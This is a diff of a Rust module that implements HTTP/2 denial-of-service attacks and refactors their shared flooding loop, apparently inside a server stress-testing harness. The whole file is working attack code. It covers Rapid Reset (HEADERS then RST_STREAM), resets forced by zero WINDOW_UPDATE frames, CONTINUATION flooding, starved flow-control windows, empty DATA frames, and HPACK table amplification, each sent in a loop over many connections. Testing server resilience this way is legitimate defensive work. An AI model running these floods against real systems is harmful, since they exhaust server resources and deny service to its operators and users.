@@ -1,78 +1,53 @@
 //! Attacks by frames of HTTP/2.
 
+use std::io;
 use std::net::TcpStream;
-use std::time::Duration;
 
 use super::Target;
-use super::http1::{gather, wait};
 use crate::support::frames::{ACK, END_HEADERS, END_STREAM, Frames, kind};
 
-/// How long a server may leave our frames unread before we give that connection up.
-const PATIENCE: Duration = Duration::from_millis(200);
+const WHOLE: u8 = END_HEADERS | END_STREAM;
 
-/// Opens connection after connection, and has `send` send frames on each until the server has enough of it.
+/// Opens connection after connection, and has `send` send frames on each, round by round, until the server has enough.
+/// It gets the round's stream.
 fn flood(
     target: &Target,
-    send: impl Fn(&mut Frames<TcpStream>, u32) -> std::io::Result<()>,
+    send: impl Fn(&mut Frames<TcpStream>, u32) -> io::Result<()>,
 ) -> Vec<TcpStream> {
-    let mut held = Vec::new();
-    let mut number = 0;
-    while target.goes_on() {
-        number += 1;
-        let Ok(connection) = target.connect(number % target.crowd) else {
-            continue;
-        };
-        let _limit = connection.set_write_timeout(Some(PATIENCE));
-        let Ok(kept) = connection.try_clone() else {
-            continue;
-        };
-        if let Ok(mut frames) = Frames::try_over(connection, "a".to_owned(), &[]) {
-            let mut round = 0;
-            while target.goes_on() && send(&mut frames, round).is_ok() {
-                round += 1;
-            }
+    target.flood(|connection| {
+        let mut frames = Frames::try_over(connection, "a".to_owned(), &[])?;
+        let mut stream = 1;
+        while target.goes_on() {
+            send(&mut frames, stream)?;
+            stream += 2;
         }
-        held.push(kept);
-        if held.len() >= target.crowd / 10 {
-            held.clear();
-        }
-    }
-    held
-}
-
-/// The stream of round `round`.
-fn stream(round: u32) -> u32 {
-    1 + 2 * round
+        Ok(())
+    })
 }
 
 pub(super) fn rapid_reset(target: &Target) -> Vec<TcpStream> {
-    flood(target, |frames, round| {
+    flood(target, |frames, stream| {
         let block = frames.get_block("/reviews.json");
+        frames.try_send(kind::HEADERS, WHOLE, stream, &block)?;
         let cancel = 8_u32.to_be_bytes();
-        frames.try_send(
-            kind::HEADERS,
-            END_HEADERS | END_STREAM,
-            stream(round),
-            &block,
-        )?;
-        frames.try_send(kind::RST_STREAM, 0, stream(round), &cancel)
+        frames.try_send(kind::RST_STREAM, 0, stream, &cancel)
     })
 }
 
 /// A window that grows by nothing is an error of its stream (RFC 9113 §6.9), which the server has to reset.
 pub(super) fn made_resets(target: &Target) -> Vec<TcpStream> {
-    flood(target, |frames, round| {
+    flood(target, |frames, stream| {
         let block = frames.get_block("/reviews.json");
-        frames.try_send(kind::HEADERS, END_HEADERS, stream(round), &block)?;
-        frames.try_send(kind::WINDOW_UPDATE, 0, stream(round), &0_u32.to_be_bytes())
+        frames.try_send(kind::HEADERS, END_HEADERS, stream, &block)?;
+        frames.try_send(kind::WINDOW_UPDATE, 0, stream, &[0; 4])
     })
 }
 
 pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
     // A literal field that no table keeps, again and again.
     let filler = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x1f][..], &[b'y'; 4_096]].concat();
-    flood(target, |frames, round| match round {
-        0 => {
+    flood(target, |frames, stream| match stream {
+        1 => {
             let block = frames.get_block("/healthz");
             frames.try_send(kind::HEADERS, END_STREAM, 1, &block)
         }
@@ -82,23 +57,17 @@ pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
 
 /// A crowd that asks for much and never opens a window.
 pub(super) fn shut_windows(target: &Target) -> Vec<TcpStream> {
-    let held = gather(target, |number| {
-        let connection = target.connect(number)?;
-        let kept = connection.try_clone()?;
-        let initial_window_size = 4;
-        let mut frames = Frames::try_over(connection, "a".to_owned(), &[(initial_window_size, 0)])?;
+    let held = target.crowd(|_, connection| {
+        let initial_window_size = (4, 0);
+        let connection = connection.try_clone()?;
+        let mut frames = Frames::try_over(connection, "a".to_owned(), &[initial_window_size])?;
         let block = frames.get_block("/reviews.json");
-        for round in 0..4 {
-            frames.try_send(
-                kind::HEADERS,
-                END_HEADERS | END_STREAM,
-                stream(round),
-                &block,
-            )?;
+        for stream in [1, 3, 5, 7] {
+            frames.try_send(kind::HEADERS, WHOLE, stream, &block)?;
         }
-        Ok(kept)
+        Ok(())
     });
-    wait(target);
+    target.wait();
     held
 }
 
@@ -116,8 +85,8 @@ pub(super) fn pings(target: &Target) -> Vec<TcpStream> {
 }
 
 pub(super) fn empty_data(target: &Target) -> Vec<TcpStream> {
-    flood(target, |frames, round| match round {
-        0 => {
+    flood(target, |frames, stream| match stream {
+        1 => {
             let block = frames.post_block("/mcp");
             frames.try_send(kind::HEADERS, END_HEADERS, 1, &block)
         }
@@ -127,17 +96,12 @@ pub(super) fn empty_data(target: &Target) -> Vec<TcpStream> {
 
 /// One entry of 4,000 bytes in the table, and then a thousand indices of it, a byte each (RFC 7541 §6.1).
 pub(super) fn unpacking(target: &Target) -> Vec<TcpStream> {
-    flood(target, |frames, round| {
+    flood(target, |frames, stream| {
         let mut block = frames.get_block("/healthz");
         block.extend([0x40, 0x01, b'x', 0x7f, 0xa1, 0x1e]);
         block.extend([b'y'; 4_000]);
         block.extend([0xbe; 1_000]);
-        frames.try_send(
-            kind::HEADERS,
-            END_HEADERS | END_STREAM,
-            stream(round),
-            &block,
-        )?;
+        frames.try_send(kind::HEADERS, WHOLE, stream, &block)?;
         frames.try_send(kind::SETTINGS, ACK, 0, &[])
     })
 }
